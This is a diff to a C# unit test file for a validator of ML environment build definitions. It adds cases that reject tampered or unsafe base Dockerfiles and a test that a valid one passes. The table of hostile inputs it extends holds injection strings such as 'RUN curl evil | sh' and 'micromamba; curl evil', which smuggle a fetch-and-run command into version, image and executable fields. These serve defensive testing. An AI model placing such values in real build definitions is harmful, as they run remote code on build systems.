@@ -61,6 +61,9 @@ public class DefinitionCheckTests
         { "format", d => d with { FormatVersion = 2 } },
         { "python", d => d with { PythonVersion = "3.11\nRUN curl evil | sh" } },
         { "base image", d => d with { Base = BaseSpec.FromImage("debian\nRUN curl evil | sh") } },
+        { "dockerfile hash", d => d with { Base = new BaseSpec(null, "FROM debian:bookworm-slim\n", new string('0', 64)) } },
+        { "dockerfile copy", d => d with { Base = Dockerfile("FROM debian:bookworm-slim\nCOPY secret /x\n") } },
+        { "dockerfile continuation", d => d with { Base = Dockerfile("FROM debian:bookworm-slim\nRUN echo \\\n") } },
         { "parent", d => d with { Parent = new ParentEnvironment("p", new string('a', 64), "mlenv/p:x y") } },
         { "executable", d => d with { CondaExecutable = "micromamba; curl evil" } },
         { "channel", d => d with { CondaChannels = ["conda-forge\n"] } },
@@ -87,6 +90,19 @@ public class DefinitionCheckTests
         { "label reserved", d => d with { Labels = new Dictionary<string, string> { ["org.mlenv.definition-hash"] = "x" } } },
         { "label value", d => d with { Labels = new Dictionary<string, string> { ["team"] = "ml\u0085x" } } },
     };
+
+    private static BaseSpec Dockerfile(string text) =>
+        new(null, text, Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(text))));
+
+    [Fact]
+    public void ABaseDockerfileTheHashNamesAndTheRulesTakePasses()
+    {
+        var text = "FROM debian:bookworm-slim\r\nRUN apt-get update\r\n";
+        Assert.Null(DefinitionCheck.Problem(Sample() with { Base = Dockerfile(text) }));
+        // A file with a byte-order mark: the hash is of its bytes, the store keeps its text.
+        var withBom = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData([0xEF, 0xBB, 0xBF, .. System.Text.Encoding.UTF8.GetBytes(text)]));
+        Assert.Null(DefinitionCheck.Problem(Sample() with { Base = new BaseSpec(null, text, withBom) }));
+    }
 
     [Theory]
     [MemberData(nameof(Hostile))]
